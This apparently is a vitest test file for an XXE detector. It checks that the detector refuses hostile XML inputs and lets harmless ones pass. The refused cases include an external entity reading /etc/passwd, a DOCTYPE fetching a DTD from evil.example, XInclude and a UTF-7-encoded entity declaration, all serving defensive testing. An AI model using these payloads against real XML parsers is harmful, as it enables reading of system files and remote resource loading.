/** Declarations in XML, and documents that have none. */
import { describe, expect, test } from 'vitest'
import type { Field } from '../model/request.ts'
import { asked } from './fixtures/asked.ts'
import { xxe } from './xxe.ts'

describe('refused', () => {
  test.each<[text: string, field?: Partial<Field>]>([
    ['<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'],
    ['<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'],
    ['<!ENTITY % a "b">'],
    ['<?xml-stylesheet href="x"?>'],
    ['<xi:include href="x"/>'],
    ['<soap:Envelope xmlns="x" <!x'],
    ['<a:Envelope><b:Envelope c <!x'],
    ['+ADwAIQ-ENTITY a SYSTEM +ACI-x+ACIAPg-'],
  ])('%s', (...[text, field]) => {
    expect(asked(xxe, text, field)).not.toBeNull()
  })
})

describe('passes', () => {
  test.each<[text: string, field?: Partial<Field>]>([
    ['<!DOCTYPE html>'],
    ['<?xml version="1.0"?><a>b</a>'],
    ['<soap:Envelope xmlns="x"><!-- b --></soap:Envelope>'],
    ['the DOCTYPE of a page'],
    ['<a xmlns="http://a.example"/>'],
  ])('%s', (...[text, field]) => {
    expect(asked(xxe, text, field)).toBeNull()
  })
})
